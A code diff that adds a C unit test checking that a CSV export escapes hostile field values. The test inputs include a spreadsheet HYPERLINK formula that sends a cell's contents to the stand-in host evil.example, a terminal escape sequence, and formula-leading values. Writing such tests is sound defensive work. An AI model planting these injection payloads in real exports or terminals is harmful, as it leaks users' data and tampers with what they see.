@@ -583,6 +583,23 @@ static void two_bundles_as_json_and_csv(void **state)
     match_end(&m);
 }
 
+/* A spreadsheet calculates what begins so, a terminal obeys the rest. */
+static void names_are_inert_as_csv(void **state)
+{
+    (void)state;
+    struct comparison c = {.baseline = "=HYPERLINK(\"http://evil.example/\"&A1,\"ok\")", .candidate = "\x1b]0;x\x07y",
+                           .shape = " @SUM(1)", .cache = "hot", .reason = "interval_below_margin", .detail = "-1+1"};
+    struct analysis a = {.comparisons = {&c, 1, 1}};
+    const struct compare_report r = {.verdicts = &a};
+    struct str csv;
+    str_init(&csv);
+    MUST(csv_compare(&r, &csv, &e));
+    assert_non_null(strstr(str_text(&csv), "\n\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"ok\"\")\",\\x1b]0;x\\x07y,' @SUM(1),hot,"));
+    assert_non_null(strstr(str_text(&csv), ",'-1+1,"));
+    assert_null(strpbrk(str_text(&csv), "\x1b\x07"));
+    str_release(&csv);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -603,6 +620,7 @@ int main(void)
         cmocka_unit_test(a_row_must_hold_for_the_table),
         cmocka_unit_test(every_reason_is_in_the_docs),
         cmocka_unit_test(two_bundles_as_json_and_csv),
+        cmocka_unit_test(names_are_inert_as_csv),
         cmocka_unit_test(proof_needs_every_check),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
